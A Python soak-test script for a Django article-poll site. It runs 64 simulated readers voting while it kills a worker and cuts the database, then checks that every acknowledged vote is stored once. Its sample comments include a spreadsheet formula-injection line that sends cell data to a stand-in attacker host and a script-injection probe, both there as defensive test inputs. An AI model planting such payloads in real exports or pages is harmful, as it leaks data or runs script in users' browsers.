"""`make soak`: readers vote under load and faults; not one answer may be lost.

Starts the real site (gunicorn, production settings, several workers) in a
throwaway folder on a free loopback port, and for ``--duration`` seconds runs
64 concurrent readers: each reads articles, votes, sometimes changes its
answer, sometimes gives reasons and a comment after a "No". Meanwhile:

- one gunicorn worker is SIGKILLed (gunicorn must replace it);
- SQLite: another process holds the write lock for a few seconds;
  PostgreSQL: every backend of the site's database is terminated and new
  connections are refused for a few seconds (a restart, as clients see it).

Then every answer the server acknowledged is compared with the database
(``bench.ledger``): none missing, none counted twice, and
``manage.py check_poll_counters`` finds every counter equal to a recount.
Exits non-zero on any lost or double-counted vote, any counter difference,
any 5xx other than a 503 with Retry-After, or a fault that did not happen.
"""

import argparse
import asyncio
import json
import os
import random
import string
import time
from collections import Counter, defaultdict
from urllib.parse import urlencode

import psycopg

from bench import faults, load
from bench.ledger import Ledger
from bench.postgres import POSTGRES_SERVER
from bench.server import (
    BROWSER_AGENT,
    ROOT,
    Server,
    django_shell,
    free_port,
    generate,
    prepare_site,
    site_environment,
    workspace,
)
from bench.soak_verdict import check_counters, read_log, stored_rows, summary

RESULTS = ROOT / "bench" / "results" / "soak-latest.json"
# Dropped and created again by every run; another name keeps two runs on one
# server apart.
POSTGRES_DATABASE = os.environ.get("SOAK_POSTGRES_DATABASE", "soak_health")
REASONS = ["inaccurate", "hard_to_understand", "did_not_answer", "other"]
COMMENTS = [
    "",
    "It did not say how long the numbness should last.",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "<script>alert(1)</script>",
    "Ça ne m’a pas aidé 🙁",
]
CLIENT_TIMEOUT = 20  # longer than the workers' timeout (15 s, set below)


def say(message):
    print(message, flush=True)


def site_ids(env):
    """The poll, its choices ([id, negative]) and the live articles ([id, url])."""
    code = (
        "import json;from polls.models import Poll;"
        "from articles.models import ArticlePage;"
        "p=Poll.objects.get(question='Was this article helpful?');"
        "print(json.dumps([p.pk, [[c.pk, c.is_negative] for c in p.choices.all()],"
        "[[a.pk, a.url] for a in ArticlePage.objects.live()]]))"
    )
    return json.loads(django_shell(env, code).splitlines()[-1])


class Soak:
    """The readers, what they were told, and the faults, for one run."""

    def __init__(self, server, poll, choices, pages, args):
        self.server, self.poll, self.pages, self.args = server, poll, pages, args
        self.choices = [choice for choice, _ in choices]
        self.negative = {choice for choice, negative in choices if negative}
        self.ledger = Ledger(self.negative)
        self.statuses = defaultdict(Counter)  # kind -> status (or "no answer")
        self.missing_retry_after = 0
        self.slowest_vote = 0.0
        self.events = []
        self.deadline = 0.0

    async def request(self, kind, method, path, cookie, body=""):
        headers = {"User-Agent": BROWSER_AGENT, "Cookie": f"poll_reader={cookie}"}
        if method == "POST":
            headers["Origin"] = self.server.base_url
            if random.random() < 0.5:  # the script; else the plain form (303)
                headers["Accept"] = "application/json"
        payload = load.http_request(
            method, path, f"127.0.0.1:{self.server.port}", headers, body
        )
        started = time.monotonic()
        try:
            reply = await load.send(self.server.port, payload, CLIENT_TIMEOUT)
        except (TimeoutError, OSError, IndexError, ValueError):
            self.statuses[kind]["no answer"] += 1
            return None
        if kind == "vote":
            self.slowest_vote = max(self.slowest_vote, time.monotonic() - started)
        self.statuses[kind][reply.status] += 1
        if reply.status == 503 and "retry-after" not in reply.headers:
            self.missing_retry_after += 1
        return reply.status

    async def vote(self, cookie, page, choice):
        body = urlencode({"page": page, "poll": self.poll, "choice": choice})
        status = await self.request("vote", "POST", "/polls/vote/", cookie, body)
        self.ledger.vote(cookie, page, choice, status)

    async def follow_up(self, cookie, page, rng):
        reasons = rng.sample(REASONS, rng.randint(0, 2))
        comment = rng.choice(COMMENTS)
        fields = [("page", page), ("poll", self.poll), ("comment", comment)]
        body = urlencode(fields + [("reasons", reason) for reason in reasons])
        status = await self.request(
            "follow-up", "POST", "/polls/follow-up/", cookie, body
        )
        self.ledger.follow_up(cookie, page, reasons, comment, status)

    async def reader(self, number):
        """Read an article (maybe search), vote, maybe change it or say why; repeat."""
        rng = random.Random(f"{self.args.seed}-{number}")
        cookie = "".join(rng.choices(string.ascii_letters + string.digits, k=40))
        while time.monotonic() < self.deadline:
            page, url = rng.choice(self.pages)
            await self.request("page", "GET", url, cookie)
            if rng.random() < 0.1:  # a page the page cache does not keep
                await self.request("search", "GET", "/search/?q=numb", cookie)
            if rng.random() < 0.3:
                answer_url = f"/polls/my-answer/?page={page}&poll={self.poll}"
                await self.request("my-answer", "GET", answer_url, cookie)
            await self.vote(cookie, page, rng.choice(self.choices))
            if rng.random() < 0.25:
                await self.vote(cookie, page, self.other(cookie, page))
            last = self.ledger.last_choice(cookie, page)
            if last in self.negative and rng.random() < 0.5:
                await self.follow_up(cookie, page, rng)

    def other(self, cookie, page):
        """A reader changing their mind picks the answer they did not give."""
        last = self.ledger.last_choice(cookie, page)
        return next(choice for choice in self.choices if choice != last)

    async def fault(self, at, action, *args):
        await asyncio.sleep(at)
        started = time.monotonic() - self.started
        try:
            event = await asyncio.get_running_loop().run_in_executor(
                None, action, *args
            )
        except faults.FaultFailed as error:
            self.events.append(f"FAILED at {started:.1f} s: {error}")
            return False
        self.events.append(f"at {started:.1f} s: {event}")
        return True

    async def run(self, database_fault):
        self.started = time.monotonic()
        self.deadline = self.started + self.args.duration
        duration = self.args.duration
        fault_runs = [
            self.fault(duration * 0.3, faults.kill_worker, self.server),
            self.fault(duration * 0.55, *database_fault),
        ]
        readers = [self.reader(n) for n in range(self.args.readers)]
        results = await asyncio.gather(*fault_runs, *readers)
        self.elapsed = time.monotonic() - self.started
        return all(results[: len(fault_runs)])


def recreate_postgres_database():
    with psycopg.connect(f"{POSTGRES_SERVER}/postgres", autocommit=True) as admin:
        admin.execute(f'DROP DATABASE IF EXISTS "{POSTGRES_DATABASE}" WITH (FORCE)')
        admin.execute(f'CREATE DATABASE "{POSTGRES_DATABASE}"')


def drop_postgres_database():
    with psycopg.connect(f"{POSTGRES_SERVER}/postgres", autocommit=True) as admin:
        admin.execute(f'DROP DATABASE IF EXISTS "{POSTGRES_DATABASE}" WITH (FORCE)')


def soak(args, workdir):
    port = free_port()
    if args.database == "postgres":
        recreate_postgres_database()
        database_url = f"{POSTGRES_SERVER}/{POSTGRES_DATABASE}"
        database_fault = (faults.cut_postgres, POSTGRES_SERVER, POSTGRES_DATABASE, 3)
    else:
        database_url = None
        database_fault = (faults.hold_sqlite_lock, workdir / "site.sqlite3", 3)
    env = site_environment(workdir, database_url=database_url, GUNICORN_TIMEOUT=15)
    say(f"Preparing a throwaway site on {args.database} (migrate, demo content)")
    prepare_site(env, port)
    generate(env, args.articles, votes=0)
    poll, choices, pages = site_ids(env)
    say(
        f"Soaking for {args.duration} s: {args.readers} readers, {len(pages)} "
        f"articles, {args.workers} gunicorn workers"
    )
    log = workdir / "gunicorn.log"
    with Server(env, port, workers=args.workers, log_path=log) as server:
        run = Soak(server, poll, choices, pages, args)
        faults_ok = asyncio.run(run.run(database_fault))
    cookies = {cookie for cookie, _ in run.ledger.requests}
    rows, stored = stored_rows(env, cookies)
    stored["check"] = check_counters(env)
    verdict = run.ledger.check(rows)
    return summary(args, run, verdict, stored, faults_ok, read_log(log))


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    environ = os.environ.get
    parser.add_argument(
        "--duration", type=int, default=int(environ("SOAK_DURATION", 60))
    )
    parser.add_argument(
        "--database",
        choices=["sqlite", "postgres"],
        default=environ("SOAK_DATABASE", "sqlite"),
    )
    parser.add_argument("--readers", type=int, default=64)
    parser.add_argument("--workers", type=int, default=4)
    parser.add_argument("--articles", type=int, default=12)
    parser.add_argument("--seed", default=environ("SOAK_SEED", "2026"))
    args = parser.parse_args(argv)
    try:
        with workspace("soak-") as workdir:
            passed, text, result = soak(args, workdir)
    finally:
        if args.database == "postgres":
            drop_postgres_database()
    say("\n" + text)
    RESULTS.parent.mkdir(parents=True, exist_ok=True)
    RESULTS.write_text(json.dumps({**result, "summary": text}, indent=2, default=str))
    raise SystemExit(0 if passed else 1)


if __name__ == "__main__":
    main()
